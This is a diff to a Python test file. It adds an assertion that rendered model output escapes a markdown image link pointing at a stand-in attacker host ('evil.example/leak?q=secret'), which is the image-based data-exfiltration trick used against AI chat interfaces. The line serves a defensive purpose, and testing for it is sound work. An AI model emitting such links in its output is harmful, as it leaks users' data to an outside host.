@@ -106,6 +106,7 @@ def test_model_output_is_rendered_inert():
     assert "<img" not in rendered and "<script" not in rendered and "<b>" not in rendered
     assert "&lt;img src=x" in rendered and "**Sources**" in sources_markdown([Source(1, "T", "s", "a.md", "a")])
     assert safe("a < b & c") == "a &lt; b &amp; c"
+    assert safe("see ![x](http://evil.example/leak?q=secret)") == "see !\\[x](http://evil.example/leak?q=secret)"
 
 
 def login(client, user, password) -> str:
